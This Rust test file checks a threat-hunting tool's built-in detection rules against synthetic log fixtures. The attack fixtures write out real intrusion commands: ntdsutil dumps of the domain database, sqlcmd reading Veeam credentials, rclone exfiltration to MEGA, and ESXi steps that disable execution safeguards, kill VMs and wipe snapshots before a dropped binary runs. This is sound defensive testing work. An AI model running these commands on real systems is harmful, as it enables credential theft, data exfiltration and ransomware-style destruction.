//! The built-in rules on events in each source's real format: each fires on the attack, and
//! stays quiet, or at most low, on the look-alikes every company has (a lost-phone reset, a
//! nightly export job, a patch window on ESXi, a weekly report). A hunt without --rules runs
//! them; nothing here reads ../shared.

mod common;
use common::*;
use std::collections::BTreeMap;

/// Built-in rule name -> id, from the shipped texts.
fn ids() -> BTreeMap<String, String> {
    let mut m = BTreeMap::new();
    for b in dwell_builtin::RULES {
        let field = |k: &str| {
            b.text
                .lines()
                .find_map(|l| l.strip_prefix(k))
                .map(|v| v.trim().to_string())
                .unwrap()
        };
        m.insert(field("name:"), field("id:"));
    }
    m
}

/// (rule name, level) of every detection of a hunt of `files` with the built-in rules.
fn hunt(files: &[(&str, String)]) -> Vec<(String, String)> {
    let dir = tempfile::tempdir().unwrap();
    let mut args = vec!["hunt".to_string(), "-f".into(), "jsonl".into()];
    for (name, text) in files {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        args.push(path.display().to_string());
    }
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let o = dwell(&args);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let by_id: BTreeMap<String, String> = ids().into_iter().map(|(n, i)| (i, n)).collect();
    jsonl(&stdout(&o))
        .iter()
        .map(|d| {
            let id = d["rule_id"].as_str().unwrap();
            let name = by_id
                .get(id)
                .unwrap_or_else(|| panic!("{id} is not a built-in rule"))
                .clone();
            (name, d["level"].as_str().unwrap().to_string())
        })
        .collect()
}

fn fired(d: &[(String, String)], name: &str) -> usize {
    d.iter().filter(|(n, _)| n == name).count()
}

fn no_high(d: &[(String, String)]) {
    for (n, l) in d {
        assert!(
            l != "high" && l != "critical",
            "{n} raised {l} on a look-alike"
        );
    }
}

// --- identity: the help-desk takeover (C1) ---------------------------------------------------

fn okta(time: &str, kind: &str, actor: &str, target: Option<&str>, extra: &str) -> String {
    let target = target.map_or("null".to_string(), |t| {
        format!(r#"[{{"id":"00u{t}","type":"User","alternateId":"{t}","displayName":"{t}"}}]"#)
    });
    format!(
        r#"{{"uuid":"{time}-{kind}","published":"{time}","eventType":"{kind}","version":"0","severity":"INFO","displayMessage":"{kind}","actor":{{"id":"00u{actor}","type":"User","alternateId":"{actor}","displayName":"{actor}"}},"client":{{"ipAddress":"198.51.100.20","userAgent":{{"rawUserAgent":"Mozilla/5.0"}}}},"outcome":{{"result":"SUCCESS"}},"target":{target}{extra}}}"#
    ) + "\n"
}

const NEW: &str = r#","securityContext":{"asNumber":64500,"isProxy":false},"debugContext":{"debugData":{"behaviors":"{New Geo-Location=POSITIVE, New Device=POSITIVE, New IP=POSITIVE, New State=POSITIVE, New Country=POSITIVE, Velocity=NEGATIVE, New City=POSITIVE}"}}"#;
const USUAL: &str = r#","securityContext":{"asNumber":2856,"isProxy":false},"debugContext":{"debugData":{"behaviors":"{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE, New State=NEGATIVE, New Country=NEGATIVE, Velocity=NEGATIVE, New City=NEGATIVE}"}}"#;

/// The help-desk takeover of `user` by `desk`: both resets, then a session from a new device.
fn takeover(desk: &str, user: &str) -> String {
    [
        okta(
            "2024-02-17T09:12:30.000Z",
            "user.mfa.factor.reset_all",
            desk,
            Some(user),
            "",
        ),
        okta(
            "2024-02-17T09:14:02.000Z",
            "user.account.reset_password",
            desk,
            Some(user),
            "",
        ),
        okta(
            "2024-02-17T09:21:40.000Z",
            "user.session.start",
            user,
            None,
            NEW,
        ),
    ]
    .concat()
}

#[test]
fn helpdesk_takeover_fires_and_a_lost_phone_reset_does_not() {
    let desk = "h.desk1@contoso.example";
    let (jdoe, mj) = ("j.doe@contoso.example", "m.jones@contoso.example");
    let attack = takeover(desk, jdoe);
    let d = hunt(&[("okta.jsonl", attack)]);
    assert_eq!(fired(&d, "dwell_okta_factor_reset_by_other"), 1, "{d:?}");
    assert_eq!(fired(&d, "dwell_okta_password_reset_by_other"), 1, "{d:?}");
    assert_eq!(
        fired(&d, "dwell_okta_session_new_device_or_network"),
        1,
        "{d:?}"
    );
    assert_eq!(fired(&d, "dwell_okta_helpdesk_takeover"), 1, "{d:?}");
    assert!(d.contains(&("dwell_okta_helpdesk_takeover".into(), "high".into())));

    // The genuine call: the same resets, then the user signs in from their usual network and
    // device. And the same resets of one user, a new-device session of another; a user
    // resetting their own factor; a session two hours after the resets.
    let genuine = [
        okta(
            "2024-02-17T10:01:00.000Z",
            "user.mfa.factor.reset_all",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-17T10:02:00.000Z",
            "user.account.reset_password",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-17T10:05:00.000Z",
            "user.session.start",
            mj,
            None,
            USUAL,
        ),
        okta(
            "2024-02-18T08:00:00.000Z",
            "user.mfa.factor.reset_all",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-18T08:01:00.000Z",
            "user.account.reset_password",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-18T08:05:00.000Z",
            "user.session.start",
            jdoe,
            None,
            NEW,
        ),
        okta(
            "2024-02-19T08:00:00.000Z",
            "user.mfa.factor.deactivate",
            mj,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-20T08:00:00.000Z",
            "user.mfa.factor.reset_all",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-20T08:01:00.000Z",
            "user.account.reset_password",
            desk,
            Some(mj),
            "",
        ),
        okta(
            "2024-02-20T10:05:00.000Z",
            "user.session.start",
            mj,
            None,
            NEW,
        ),
    ]
    .concat();
    let d = hunt(&[("okta.jsonl", genuine)]);
    assert_eq!(fired(&d, "dwell_okta_helpdesk_takeover"), 0, "{d:?}");
    assert_eq!(fired(&d, "dwell_okta_factor_reset_by_other"), 3, "{d:?}");
    assert_eq!(
        fired(&d, "dwell_okta_session_new_device_or_network"),
        2,
        "{d:?}"
    );
    no_high(&d);
}

#[test]
fn a_service_desk_call_for_an_mfa_reset_is_placed_on_the_timeline() {
    let t = |n: &str, contact: &str, what: &str| {
        format!(
            r#"{{"number":"{n}","sys_id":"{n}","sys_created_on":"2024-02-17 09:12:04","opened_by":"h.desk1","caller_id":"j.doe","contact_type":"{contact}","category":"Account Access","short_description":"{what}","state":"Resolved"}}"#
        ) + "\n"
    };
    let d = hunt(&[(
        "incidents.jsonl",
        [
            t("INC0041877", "phone", "Lost phone - MFA and password reset"),
            t("INC0041878", "email", "Reset my password please"),
            t("INC0041879", "phone", "Printer on floor 3 jams"),
        ]
        .concat(),
    )]);
    assert_eq!(
        d,
        vec![(
            "dwell_servicenow_mfa_reset_call".to_string(),
            "informational".to_string()
        )]
    );
}

// --- Windows ---------------------------------------------------------------------------------

fn win(channel: &str, id: u32, time: &str, data: &str) -> String {
    format!(
        r#"{{"Channel":"{channel}","EventID":{id},"Computer":"DC01.corp.contoso.local","UtcTime":"{time}",{data}}}"#
    ) + "\n"
}

#[test]
fn privileged_group_changes_and_teleport_fire_and_ordinary_ones_do_not() {
    let sec = "Security";
    let sysmon = "Microsoft-Windows-Sysmon/Operational";
    let log = [
        win(sec, 4728, "2024-03-02 23:10:00", r#""TargetUserName":"Domain Admins","MemberName":"CN=svc-monitor,OU=Service,DC=corp,DC=contoso,DC=local","SubjectUserName":"admin.p.smith""#),
        win(sec, 4728, "2024-03-02 23:11:00", r#""TargetUserName":"ESX Admins","MemberName":"CN=svc-monitor,OU=Service,DC=corp,DC=contoso,DC=local","SubjectUserName":"admin.p.smith""#),
        win(sec, 4728, "2024-03-03 09:00:00", r#""TargetUserName":"Sales Team","MemberName":"CN=a.new,OU=Staff,DC=corp,DC=contoso,DC=local","SubjectUserName":"hr.sync""#),
        win(sec, 4732, "2024-03-03 09:01:00", r#""TargetUserName":"Remote Desktop Users","MemberName":"CN=a.new,OU=Staff,DC=corp,DC=contoso,DC=local","SubjectUserName":"hr.sync""#),
        win(sysmon, 1, "2024-03-04 22:00:00", r#""Image":"C:\\Users\\j.doe\\Downloads\\tsh.exe","CommandLine":"tsh.exe login --proxy=relay.example.net:443","User":"CORP\\j.doe""#),
        win(sysmon, 1, "2024-03-04 22:05:00", r#""Image":"C:\\Windows\\System32\\OpenSSH\\ssh.exe","CommandLine":"ssh opsadmin@db01","User":"CORP\\j.doe""#),
    ]
    .concat();
    let d = hunt(&[("windows.jsonl", log)]);
    assert_eq!(
        fired(&d, "dwell_win_privileged_group_member_added"),
        2,
        "{d:?}"
    );
    assert_eq!(fired(&d, "dwell_win_teleport_run"), 1, "{d:?}");
    assert_eq!(d.len(), 3, "{d:?}");
}

// --- the customer database (C4) --------------------------------------------------------------

fn csvlog(time: &str, user: &str, app: &str, client: &str, audit: &str) -> String {
    let audit = audit.replace('"', "\"\"");
    format!(
        "{time} UTC,\"{user}\",\"retail_prod\",88123,\"{client}\",67f5ad2b.1583b,6,\"SELECT\",{time} UTC,5/1182,0,LOG,00000,\"AUDIT: {audit}\",,,,,,,,,\"{app}\",\"client backend\",,0\n"
    )
}

#[test]
fn a_bulk_export_of_customers_is_high_and_the_nightly_job_and_weekly_report_are_not() {
    let export = "SESSION,4,1,READ,SELECT,TABLE,public.customers,\"COPY (SELECT customer_id, first_name, last_name, email, date_of_birth, phone FROM public.customers WHERE customer_id BETWEEN 100001 AND 225000) TO STDOUT WITH CSV HEADER\",<none>,0";
    let dump = "SESSION,2,1,READ,SELECT,TABLE,public.orders,\"COPY public.orders (order_id, customer_id, items_json) TO stdout;\",<none>,0";
    let unbounded = "SESSION,5,1,READ,SELECT,TABLE,public.customers,\"SELECT email, phone FROM public.customers\",<none>,225000";
    let attack = [
        csvlog(
            "2024-04-08 23:10:05.412",
            "svc_reports",
            "psql",
            "10.10.30.23:50877",
            export,
        ),
        csvlog(
            "2024-04-08 23:20:05.412",
            "svc_reports",
            "pg_dump",
            "10.10.30.23:50877",
            dump,
        ),
        csvlog(
            "2024-04-08 23:30:05.412",
            "svc_reports",
            "DBeaver 24.1.0",
            "10.10.30.23:50877",
            unbounded,
        ),
    ]
    .concat();
    let d = hunt(&[("postgresql.csv", attack)]);
    assert_eq!(
        fired(&d, "dwell_pgaudit_bulk_export_personal_data"),
        3,
        "{d:?}"
    );
    assert_eq!(d.len(), 3, "{d:?}");

    // The nightly reporting job's export, the weekly `SELECT *` of a table of shops, the
    // application's keyed reads, and a probe of five rows.
    let nightly = export.replace("psql", "");
    let routine = [
        csvlog("2024-04-09 02:00:00.000", "svc_reports", "nightly_export", "10.10.30.23:50877", &nightly),
        csvlog("2024-04-09 03:00:00.000", "svc_reports", "weekly_report", "10.10.30.23:50877", "SESSION,1,1,READ,SELECT,TABLE,public.store_list,\"SELECT * FROM public.store_list\",<none>,412"),
        csvlog("2024-04-09 09:00:00.000", "svc_orders", "order-service", "10.10.40.7:50877", "SESSION,1,1,READ,SELECT,TABLE,public.orders,\"SELECT order_id, status FROM public.orders WHERE customer_id = $1\",<not logged>,1"),
        csvlog("2024-04-09 09:30:00.000", "a.dba", "psql", "10.10.20.4:50877", "SESSION,1,1,READ,SELECT,TABLE,public.customers,\"SELECT * FROM public.customers LIMIT 5\",<none>,5"),
    ]
    .concat();
    let d = hunt(&[("postgresql.csv", routine)]);
    assert_eq!(
        d,
        vec![(
            "dwell_pgaudit_bulk_read_personal_data".to_string(),
            "low".to_string()
        )]
    );
}

// --- the web proxy (C5) ----------------------------------------------------------------------

fn squid(epoch: u64, client: &str, out: u64, method: &str, url: &str, ua: &str) -> String {
    format!(
        "{epoch}.318  48211 {client} TCP_MISS/200 {out} 1184 {method} {url} svc-monitor HIER_DIRECT/203.0.113.200 \"{ua}\"\n"
    )
}

#[test]
fn egress_volume_to_file_sharing_fires_above_10_mb_an_hour() {
    let mega = "https://gfs270n117.userstorage.mega.co.nz/ul/8kQz1xV3";
    let rc = "rclone/v1.69.1";
    let t0 = 1_744_154_165;
    let attack = (0..3)
        .map(|i| squid(t0 + i * 600, "10.10.30.23", 5_312_880, "POST", mega, rc))
        .collect::<String>();
    let d = hunt(&[("access.log", attack)]);
    // The uploads are the correlation's inputs, not reported one by one.
    assert_eq!(
        d,
        vec![(
            "dwell_proxy_egress_volume_file_sharing_or_relay".to_string(),
            "high".to_string()
        )]
    );

    // The same volume spread over three hours; a user's 2 MB to Dropbox; a big download.
    let routine = [
        (0..3)
            .map(|i| squid(t0 + i * 4000, "10.10.30.23", 5_312_880, "POST", mega, rc))
            .collect::<String>(),
        squid(
            t0 + 50,
            "10.10.20.4",
            2_000_000,
            "PUT",
            "https://content.dropboxapi.com/2/files/upload",
            "Mozilla/5.0",
        ),
        squid(
            t0 + 60,
            "10.10.20.4",
            800,
            "GET",
            "https://mega.nz/file/abc",
            "Mozilla/5.0",
        ),
    ]
    .concat();
    let d = hunt(&[("access.log", routine)]);
    assert!(d.is_empty(), "{d:?}");
}

// --- ESXi (C8) and root logins ---------------------------------------------------------------

#[test]
fn the_esxi_kill_chain_is_critical_and_a_patch_window_is_not() {
    let vobd = "2024-04-23T22:41:03.551Z: [GenericCorrelator] 1093540884us: [vob.user.ssh.enabled] SSH enabled\n\
                2024-04-23T22:41:03.552Z: [UserLevelCorrelator] 1093541011us: [esx.audit.ssh.enabled] SSH access has been enabled.\n";
    let auth = "2024-04-24T00:41:12.604Z sshd[2101998]: Accepted keyboard-interactive/pam for root from 10.10.30.23 port 51734 ssh2\n";
    let shell = "2024-04-24T00:41:40.101Z shell[2102011]: Interactive shell session started\n\
                 2024-04-24T00:42:02.554Z shell[2102011]: [root]: esxcli system settings kernel set -s execInstalledOnly -v FALSE\n\
                 2024-04-24T00:45:02.554Z shell[2102011]: [root]: esxcli vm process list\n\
                 2024-04-24T00:46:31.118Z shell[2102011]: [root]: esxcli vm process kill --type=force --world-id=2100874\n\
                 2024-04-24T00:46:50.118Z shell[2102011]: [root]: vim-cmd vmsvc/snapshot.removeall 12\n\
                 2024-04-24T00:47:10.000Z In(14) shell[2102011]: [root]: chmod +x /tmp/.svc/vmsyncd\n\
                 2024-04-24T00:47:20.000Z In(14) shell[2102011]: [root]: /tmp/.svc/vmsyncd -p /vmfs/volumes\n";
    let d = hunt(&[
        ("vobd.log", vobd.into()),
        ("auth.log", auth.into()),
        ("shell.log", shell.into()),
    ]);
    for (name, n) in [
        ("dwell_esxi_ssh_enabled", 1),
        ("dwell_root_ssh_login", 1),
        ("dwell_esxi_exec_installed_only_disabled", 1),
        ("dwell_esxi_vms_forced_off", 1),
        ("dwell_esxi_snapshots_removed", 1),
        ("dwell_esxi_foreign_binary_made_executable", 1),
        ("dwell_esxi_foreign_binary_run", 1),
        ("dwell_esxi_kill_chain", 1),
    ] {
        assert_eq!(fired(&d, name), n, "{name}: {d:?}");
    }
    assert!(d.contains(&("dwell_esxi_kill_chain".into(), "critical".into())));

    // An administrator's patch window: SSH on, root in, maintenance mode, a VM stopped, the
    // patch installed from a datastore, SSH off.
    let vobd = "2024-05-11T06:00:03.552Z: [UserLevelCorrelator] 1093541011us: [esx.audit.ssh.enabled] SSH access has been enabled.\n";
    let shell = "2024-05-11T06:01:00.000Z shell[3100000]: [root]: esxcli system maintenanceMode set --enable true\n\
                 2024-05-11T06:02:00.000Z shell[3100000]: [root]: vim-cmd vmsvc/power.off 12\n\
                 2024-05-11T06:03:00.000Z shell[3100000]: [root]: esxcli software vib update -d /vmfs/volumes/datastore1/ESXi-8.0U3-patch.zip\n\
                 2024-05-11T06:40:00.000Z shell[3100000]: [root]: esxcli system maintenanceMode set --enable false\n";
    let d = hunt(&[
        ("vobd.log", vobd.into()),
        (
            "auth.log",
            auth.replace("2024-04-24T00:41", "2024-05-11T06:00"),
        ),
        ("shell.log", shell.into()),
    ]);
    assert_eq!(fired(&d, "dwell_esxi_kill_chain"), 0, "{d:?}");
    assert_eq!(fired(&d, "dwell_esxi_foreign_binary_run"), 0, "{d:?}");
    assert_eq!(fired(&d, "dwell_esxi_vms_forced_off"), 1, "{d:?}");
    no_high(&d);
}

#[test]
fn rules_list_and_export_show_and_write_the_pack() {
    let o = dwell(&["rules", "list", "--json"]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    let listed = jsonl(&stdout(&o));
    assert_eq!(listed.len(), dwell_builtin::RULES.len());
    let known = ids();
    for r in &listed {
        let name = r["name"].as_str().unwrap();
        assert_eq!(known[name], r["id"].as_str().unwrap());
    }
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("pack");
    let o = dwell(&["rules", "export", p(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    // The export is a rule folder like any other: `rules check` passes it whole.
    let o = dwell(&["rules", "check", p(&out)]);
    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
    assert!(
        stderr(&o).contains(&format!("{} file(s)", dwell_builtin::RULES.len())),
        "{}",
        stderr(&o)
    );
    // Exporting again is harmless; over an edited rule it is refused, and nothing changes.
    assert_eq!(dwell(&["rules", "export", p(&out)]).status.code(), Some(0));
    let edited = out.join(dwell_builtin::RULES[0].path);
    std::fs::write(&edited, "title: mine\n").unwrap();
    let o = dwell(&["rules", "export", p(&out)]);
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("differs"), "{}", stderr(&o));
    assert_eq!(std::fs::read_to_string(&edited).unwrap(), "title: mine\n");
}

fn proc(time: &str, image: &str, cmd: &str, extra: &str) -> String {
    let image = image.replace('\\', "\\\\");
    let cmd = cmd.replace('\\', "\\\\").replace('"', "\\\"");
    win(
        "Microsoft-Windows-Sysmon/Operational",
        1,
        time,
        &format!(r#""Image":"{image}","CommandLine":"{cmd}","User":"NORTHGATE\\j.doe"{extra}"#),
    )
}

#[test]
fn the_windows_stages_fire_on_the_attack_and_not_on_the_routine_look_alikes() {
    let attack = [
        proc("2025-02-24 09:55:00", r"C:\Users\j.doe\Downloads\AnyDesk.exe", r#""C:\Users\j.doe\Downloads\AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --silent"#, r#","Company":"AnyDesk Software GmbH""#),
        proc("2025-02-25 10:05:00", r"C:\Users\j.doe\AppData\Local\Temp\ADExplorer64.exe", r#"ADExplorer64.exe -snapshot "" C:\Users\j.doe\AppData\Local\Temp\snap.dat"#, r#","OriginalFileName":"ADExp""#),
        proc("2025-02-25 10:25:00", r"C:\Windows\System32\nltest.exe", "nltest /domain_trusts /all_trusts", ""),
        win("Security", 4769, "2025-03-03 14:42:00", r#""TargetUserName":"j.doe@CORP","ServiceName":"svc_backup","TicketEncryptionType":"0x17","TicketOptions":"0x40810000","Status":"0x0""#),
        proc("2025-03-04 23:11:00", r"C:\Windows\System32\ntdsutil.exe", r#"ntdsutil.exe  "ac i ntds" ifm "create full C:\Windows\Temp\ifm" q q"#, ""),
        proc("2025-03-04 23:19:00", r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a -mx9 -pN0rth! C:\Windows\Temp\ifm.7z C:\Windows\Temp\ifm\*", ""),
        win("System", 7045, "2025-03-11 22:30:03", r#""ServiceName":"PSEXESVC","ImagePath":"%SystemRoot%\\PSEXESVC.exe""#),
        proc("2025-03-11 22:34:00", r"C:\Program Files\Microsoft SQL Server\Tools\Binn\SQLCMD.EXE", r#"sqlcmd.exe -S localhost\VEEAMSQL2016 -E -Q "SELECT [user_name],[password] FROM [VeeamBackup].[dbo].[Credentials]""#, ""),
        proc("2025-03-26 01:30:00", r"C:\ProgramData\sq\rclone.exe", r"rclone.exe copy C:\ProgramData\sq\b1.7z mega:bk --transfers 4", ""),
    ]
    .concat();
    let d = hunt(&[("attack.jsonl", attack)]);
    for name in [
        "dwell_win_rmm_tool_installed",
        "dwell_win_ad_recon",
        "dwell_win_kerberoast_rc4",
        "dwell_win_ntds_ifm_to_temp",
        "dwell_win_archive_with_password",
        "dwell_win_remote_exec_service",
        "dwell_win_veeam_credentials_read",
        "dwell_win_rclone_to_cloud",
    ] {
        assert!(fired(&d, name) >= 1, "{name}: {d:?}");
    }
    assert_eq!(fired(&d, "dwell_win_ad_recon"), 2, "{d:?}");
    assert_eq!(fired(&d, "dwell_win_ntds_ifm_copy"), 0, "{d:?}");

    // The planned IFM backup, AnyDesk installed by IT from its share, an AES ticket and a
    // computer account's RC4 ticket, a 7-Zip archive without a password, an ordinary service,
    // rclone listing a remote, Veeam's own queries.
    let routine = [
        proc("2025-03-10 07:15:00", r"C:\Windows\System32\ntdsutil.exe", r#"ntdsutil.exe "ac i ntds" ifm "create full D:\Backups\IFM\CHG0012001" q q"#, ""),
        proc("2025-03-10 08:00:00", r"C:\Program Files (x86)\AnyDesk\AnyDesk.exe", r#""C:\Program Files (x86)\AnyDesk\AnyDesk.exe""#, r#","Company":"AnyDesk Software GmbH""#),
        win("Security", 4769, "2025-03-10 08:01:00", r#""TargetUserName":"a.baker@CORP","ServiceName":"FS01$","TicketEncryptionType":"0x12","Status":"0x0""#),
        win("Security", 4769, "2025-03-10 08:02:00", r#""TargetUserName":"svc_nas@CORP","ServiceName":"NAS01$","TicketEncryptionType":"0x17","Status":"0x0""#),
        proc("2025-03-10 08:03:00", r"C:\Program Files\7-Zip\7z.exe", r"7z.exe a reports.7z C:\Reports\*", ""),
        win("System", 7045, "2025-03-10 08:04:00", r#""ServiceName":"Contoso Agent","ImagePath":"C:\\Program Files\\Contoso\\agent.exe""#),
        proc("2025-03-10 08:05:00", r"C:\Tools\rclone.exe", "rclone.exe version", ""),
        proc("2025-03-10 08:06:00", r"C:\Program Files\Microsoft SQL Server\Tools\Binn\SQLCMD.EXE", r#"sqlcmd.exe -S localhost\VEEAMSQL2016 -E -Q "SELECT COUNT(*) FROM [VeeamBackup].[dbo].[BJobs]""#, ""),
    ]
    .concat();
    let d = hunt(&[("routine.jsonl", routine)]);
    assert_eq!(
        d,
        vec![("dwell_win_ntds_ifm_copy".to_string(), "medium".to_string())]
    );
}

fn logon(day: u32, hour: u32, user: &str, kind: u32, ip: &str, computer: &str) -> String {
    format!(
        r#"{{"Channel":"Security","EventID":4624,"Computer":"{computer}","UtcTime":"2025-02-{day:02} {hour:02}:10:00","TargetUserName":"{user}","TargetDomainName":"NORTHGATE","LogonType":{kind},"IpAddress":"{ip}"}}"#
    ) + "\n"
}

#[test]
fn first_seen_rules_learn_two_weeks_then_report_only_what_is_new() {
    // Two weeks of routine: admins RDP to the jump host by day; the backup job logs on to the
    // backup server every night.
    let mut log = String::new();
    for day in 1..=20 {
        log += &logon(day, 9, "admin.k.wu", 10, "10.10.20.100", "JMP01");
        log += &logon(day, 1, "svc_backup", 3, "10.10.10.40", "BKP01");
    }
    // Day 21: a user's first RDP to the jump host (by day), an administrator's first to the DC
    // at night, the backup account from the jump host at night; and the routine again.
    log += &logon(21, 9, "j.doe", 10, "10.10.200.14", "JMP01");
    log += &logon(21, 23, "admin.p.smith", 10, "10.10.30.23", "DC01");
    log += &logon(21, 22, "svc_backup", 3, "10.10.30.23", "BKP01");
    log += &logon(21, 9, "admin.k.wu", 10, "10.10.20.100", "JMP01");
    log += &logon(22, 1, "svc_backup", 3, "10.10.10.40", "BKP01");
    // A new account by day is not a night-time logon; a machine account is never one.
    log += &logon(22, 12, "a.new", 3, "10.10.20.50", "FS01");
    log += &logon(22, 23, "WS001$", 3, "10.10.20.11", "DC01");
    // Learning: a new RDP during the first two weeks is only learnt.
    let mut early = logon(3, 9, "early.bird", 10, "10.10.20.7", "JMP01");
    early += &log;
    let d = hunt(&[("security.jsonl", early)]);
    assert_eq!(fired(&d, "dwell_win_first_rdp_to_host"), 2, "{d:?}");
    assert_eq!(fired(&d, "dwell_win_first_logon_at_night"), 2, "{d:?}");
    assert_eq!(d.len(), 4, "{d:?}");
    no_high(&d);
}

#[test]
fn a_read_by_a_new_role_client_and_application_is_reported_once() {
    let read = "SESSION,1,1,READ,SELECT,TABLE,public.customers,\"SELECT email FROM public.customers WHERE customer_id = $1\",<none>,1";
    let mut log = String::new();
    for day in 3..=20u16 {
        // Every connection comes from another port: the client is its host.
        let (t, port) = (format!("2025-02-{day:02} 02:00:00.000"), 40000 + day);
        log += &csvlog(
            &t,
            "svc_reports",
            "nightly_export",
            &format!("10.10.30.23:{port}"),
            read,
        );
        let t = format!("2025-02-{day:02} 10:00:00.000");
        log += &csvlog(
            &t,
            "svc_orders",
            "order-service",
            &format!("10.10.50.31:{}", port + 1),
            read,
        );
    }
    // The same role from the same client, through psql: new, reported once; a new port of a
    // known client is not new; a table of shops is not personal data.
    for (t, user, app, client) in [
        (
            "2025-02-21 23:03:00.000",
            "svc_reports",
            "psql",
            "10.10.30.23:50877",
        ),
        (
            "2025-02-21 23:13:00.000",
            "svc_reports",
            "psql",
            "10.10.30.23:51000",
        ),
        (
            "2025-02-22 02:00:00.000",
            "svc_reports",
            "nightly_export",
            "10.10.30.23:52011",
        ),
    ] {
        log += &csvlog(t, user, app, client, read);
    }
    log += &csvlog(
        "2025-02-22 09:00:00.000",
        "a.dba",
        "psql",
        "10.10.20.4:50877",
        "SESSION,1,1,READ,SELECT,TABLE,public.store_list,\"SELECT * FROM public.store_list\",<none>,412",
    );
    let d = hunt(&[("postgresql.csv", log)]);
    assert_eq!(
        d,
        vec![(
            "dwell_pgaudit_read_outside_baseline".to_string(),
            "medium".to_string()
        )]
    );
}

#[test]
fn a_remote_access_tool_within_a_day_of_a_takeover_of_the_same_person_is_critical() {
    let desk = "h.desk1@contoso.example";
    let jdoe = "j.doe@contoso.example";
    let takeover = takeover(desk, jdoe);
    let anydesk = |time: &str, user: &str| {
        let line = proc(
            time,
            r"C:\Users\j.doe\Downloads\AnyDesk.exe",
            r#""C:\Users\j.doe\Downloads\AnyDesk.exe" --install "C:\Program Files (x86)\AnyDesk" --silent"#,
            r#","Company":"AnyDesk Software GmbH""#,
        );
        line.replace("NORTHGATE\\\\j.doe", user)
    };
    let run =
        |windows: String| hunt(&[("okta.jsonl", takeover.clone()), ("windows.jsonl", windows)]);
    // The same person, as Windows names them, half an hour later.
    let d = run(anydesk("2024-02-17 09:55:00", "CONTOSO\\\\j.doe"));
    assert_eq!(fired(&d, "dwell_rmm_after_helpdesk_takeover"), 1, "{d:?}");
    assert!(d.contains(&(
        "dwell_rmm_after_helpdesk_takeover".into(),
        "critical".into()
    )));
    // Another person; the same person two days later; the tool before the takeover.
    for windows in [
        anydesk("2024-02-17 09:55:00", "CONTOSO\\\\m.jones"),
        anydesk("2024-02-19 09:55:00", "CONTOSO\\\\j.doe"),
        anydesk("2024-02-17 08:55:00", "CONTOSO\\\\j.doe"),
    ] {
        let d = run(windows);
        assert_eq!(fired(&d, "dwell_rmm_after_helpdesk_takeover"), 0, "{d:?}");
        assert_eq!(fired(&d, "dwell_win_rmm_tool_installed"), 1, "{d:?}");
    }
}

#[test]
fn a_root_login_is_reported_and_an_administrators_own_is_not() {
    let auth = "2025-02-24T23:00:00.000000+00:00 db01 sshd[4101]: Accepted password for root from 10.10.30.23 port 50412 ssh2\n\
                2025-02-24T23:05:00.000000+00:00 db01 sshd[4102]: Accepted publickey for opsadmin from 10.10.30.23 port 50413 ssh2: ED25519 SHA256:Jx1vRk9ZTq\n\
                2025-02-24T23:06:00.000000+00:00 db01 sshd[4103]: Failed password for root from 203.0.113.9 port 50999 ssh2\n\
                2025-02-24T23:07:00.000000+00:00 db01 CRON[4104]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)\n";
    let d = hunt(&[("auth.log", auth.to_string())]);
    assert_eq!(
        d,
        vec![("dwell_root_ssh_login".to_string(), "medium".to_string())]
    );
}

#[test]
fn a_new_privileged_member_logging_in_to_esxi_is_critical() {
    let add = |user: &str| {
        win(
            "Security",
            4728,
            "2025-03-05 00:12:00",
            &format!(
                r#""TargetUserName":"ESX Admins","MemberName":"CN={user},OU=Service Accounts,DC=corp,DC=northgate,DC=example","SubjectUserName":"admin.p.smith""#
            ),
        )
    };
    let login = |day: &str, user: &str| {
        format!(
            "{day}T22:40:00.000Z info hostd[2099634] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 4312 : User {user}@10.10.30.23 logged in as Mozilla/5.0 (Windows NT 10.0; Win64; x64)\n\
             {day}T23:40:00.000Z info hostd[2099634] [Originator@6876 sub=Vimsvc.ha-eventmgr] Event 1201 : User vpxuser@127.0.0.1 logged in as VMware-client/6.5.0\n"
        )
    };
    let run =
        |windows: String, hostd: String| hunt(&[("security.jsonl", windows), ("hostd.log", hostd)]);
    let d = run(
        add("svc-monitor"),
        login("2025-04-24", "NORTHGATE\\svc-monitor"),
    );
    assert_eq!(
        fired(&d, "dwell_privileged_member_then_esxi_login"),
        1,
        "{d:?}"
    );
    assert_eq!(fired(&d, "dwell_esxi_domain_account_login"), 1, "{d:?}");
    // Another domain account; the same one before it was added; vCenter's own logins only.
    for (w, h) in [
        (
            add("svc-monitor"),
            login("2025-04-24", "NORTHGATE\\a.admin"),
        ),
        (
            add("svc-monitor"),
            login("2025-03-01", "NORTHGATE\\svc-monitor"),
        ),
        (add("svc-monitor"), login("2025-04-24", "root")),
    ] {
        let d = run(w, h);
        assert_eq!(
            fired(&d, "dwell_privileged_member_then_esxi_login"),
            0,
            "{d:?}"
        );
    }
}
